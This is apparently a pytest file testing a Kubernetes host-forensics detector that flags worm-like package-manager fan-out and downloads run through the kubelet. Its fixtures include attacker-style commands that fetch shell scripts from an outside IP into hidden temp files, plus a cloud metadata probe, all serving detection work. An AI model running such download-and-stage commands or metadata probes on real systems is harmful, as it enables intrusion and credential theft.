"""What the kubelet was made to run in containers."""

from __future__ import annotations

from collections.abc import Sequence

import pytest

from kubewitness.model.evidence import Place
from kubewitness.model.host import Host, LogLine
from tests.detect.host.making import CONTAINER, exec_line, found, process

WORM = ["apt update --fix-missing", "apk update", "yum install -y bash", "apt install -y wget", "apk add curl"]
PLACE = Place("kubelet.log", 1, 0)


def logged(commands: Sequence[str], container: str = CONTAINER, every: int = 1, start: int = 0) -> list[LogLine]:
    return [exec_line(start + n * every, command.split(), container) for n, command in enumerate(commands)]


def test_three_kinds_of_package_managers_in_one_container_are_a_worm() -> None:
    (finding,) = found(Host("n", logs=logged(WORM)), "kubelet_exec_fan_out")
    assert (finding.severity, finding.kind, finding.count) == ("high", "intrusion", 5)
    assert finding.commands == tuple(WORM)
    assert (finding.first, finding.last) == ("2026-11-22T03:00:00.000000Z", "2026-11-22T03:00:04.000000Z")


def test_containers_are_counted_and_their_pod_is_known_from_a_process() -> None:
    other = "cd" * 32
    logs = logged(WORM) + logged(WORM, other, start=60)
    processes = [process("sleep 1", container=CONTAINER, pod_uid="uid-1")]
    (finding,) = found(Host("n", logs=logs, processes=processes), "kubelet_exec_fan_out")
    assert finding.containers == (CONTAINER, other)
    assert finding.pod_uid == "uid-1"
    assert len(finding.commands) == 5  # each once
    assert len(finding.places) == 8


def test_two_kinds_may_be_three_of_which_one_exists_and_are_less() -> None:
    (finding,) = found(Host("n", logs=logged(["apt update", "yum install -y curl"])), "kubelet_exec_fan_out")
    assert (finding.severity, finding.confidence) == ("medium", "low")


@pytest.mark.parametrize(
    "logs",
    [
        logged(["cat /tmp/healthy"] * 200, every=10),
        logged(["/bitnami/scripts/readiness-probe.sh"] * 50, every=10),
        logged(["apt update"] * 50, every=5),
        logged(["apt update", "apt-get update", "dpkg -l"]),
        logged(["apt update", "yum update", "apk update"], every=301),
        logged(["apt update"], "aa" * 32) + logged(["yum update"], "bb" * 32) + logged(["apk update"], "cc" * 32),
        [],
    ],
)
def test_probes_one_manager_long_pauses_and_other_containers_are_no_fan_out(logs: list[LogLine]) -> None:
    assert not found(Host("n", logs=logs), "kubelet_exec_fan_out")


def test_package_managers_behind_a_shell_count() -> None:
    logs = [exec_line(n, ["sh", "-c", f"cd / && {command}"]) for n, command in enumerate(WORM)]
    assert found(Host("n", logs=logs), "kubelet_exec_fan_out")


def test_the_older_form_of_the_line_is_read() -> None:
    message = f"ExecSync {CONTAINER} '{{}}' from runtime service failed: rpc error: code = Unknown"
    logs = [LogLine("kubelet", "", "error", message.format(command), {}, PLACE) for command in WORM]
    (finding,) = found(Host("n", logs=logs), "kubelet_exec_fan_out")
    assert finding.commands == tuple(WORM)
    assert finding.containers == (CONTAINER,)


def test_a_list_as_go_prints_it_is_read() -> None:
    message = "ExecSync cmd from runtime service failed"
    logs = [
        LogLine("kubelet", "", "error", message, {"containerID": CONTAINER, "cmd": f"[{command}]"}, PLACE)
        for command in WORM
    ]
    (finding,) = found(Host("n", logs=logs), "kubelet_exec_fan_out")
    assert finding.commands == tuple(WORM)


def test_containerd_alone_tells_the_programs() -> None:
    logs = [runtime(program) for program in ("apt", "apk", "yum")]
    (finding,) = found(Host("n", logs=logs), "kubelet_exec_fan_out")
    assert finding.commands == ("apt", "apk", "yum")


def test_what_both_logs_tell_is_counted_once() -> None:
    logs = [*logged(WORM), *(runtime(command.split()[0]) for command in WORM)]
    (finding,) = found(Host("n", logs=logs), "kubelet_exec_fan_out")
    assert finding.count == len(WORM)


def test_what_the_kubelets_log_of_that_time_does_not_know_came_from_the_machine_itself() -> None:
    """`crictl exec` leaves lines in the runtime's log alone; before the kubelet's begins they may be the kubelet's."""
    times = ("2026-11-22T02:00:00.000000Z", "2026-11-22T04:00:00.000000Z")
    kubelet = [LogLine("kubelet", time, "warning", "elsewhere", {}, PLACE) for time in times]
    tried = [runtime(program) for program in ("apt", "apk", "yum")]
    assert not found(Host("n", logs=[*kubelet, *tried]), "kubelet_exec_fan_out")
    assert found(Host("n", logs=[kubelet[1], *tried]), "kubelet_exec_fan_out")


def runtime(program: str) -> LogLine:
    error = f'failed to exec in container: exec failed: exec: "{program}": executable file not found'
    fields = {"error": error}
    time = "2026-11-22T03:00:00.000000Z"
    return LogLine("containerd", time, "error", f'ExecSync for "{CONTAINER}" failed', fields, PLACE)


@pytest.mark.parametrize(
    ("command", "severity"),
    [
        ("curl http://203.0.113.35/chimaera/sh/setup.sh -o /tmp/.x2mr", "high"),
        ("wget http://files.example.com/a -O /var/tmp/a", "high"),
        ("curl -sk http://203.0.113.35/k.sh", "high"),
        ("curl http://203.0.113.35/status", "medium"),
        ("curl http://169.254.169.254/latest/meta-data/", "medium"),
        ("curl -f https://status.example.com/ready", "low"),
        ("curl -f http://10.0.0.9:8080/ready", "low"),
    ],
)
def test_a_download_through_the_kubelet_tells_whom_it_asked(command: str, severity: str) -> None:
    (finding,) = found(Host("n", logs=logged([command])), "exec_download")
    assert finding.severity == severity
    assert len(finding.addresses) == 1


@pytest.mark.parametrize(
    "command",
    [
        "curl -f http://localhost:8080/healthz",
        "wget -q -O - http://127.0.0.1/ready",
        "curl http://web.shop.svc.cluster.local/",
        "curl http://redis:6379",
        "curl --version",
        "cat /etc/curlrc",
    ],
)
def test_health_checks_of_the_container_and_the_cluster_are_silent(command: str) -> None:
    assert not found(Host("n", logs=logged([command])), "exec_download")


def test_a_probe_that_asks_outside_is_low() -> None:
    (finding,) = found(Host("n", logs=logged(["curl -f http://203.0.113.35/up"] * 6, every=10)), "exec_download")
    assert finding.severity == "low"
    assert finding.count == 6
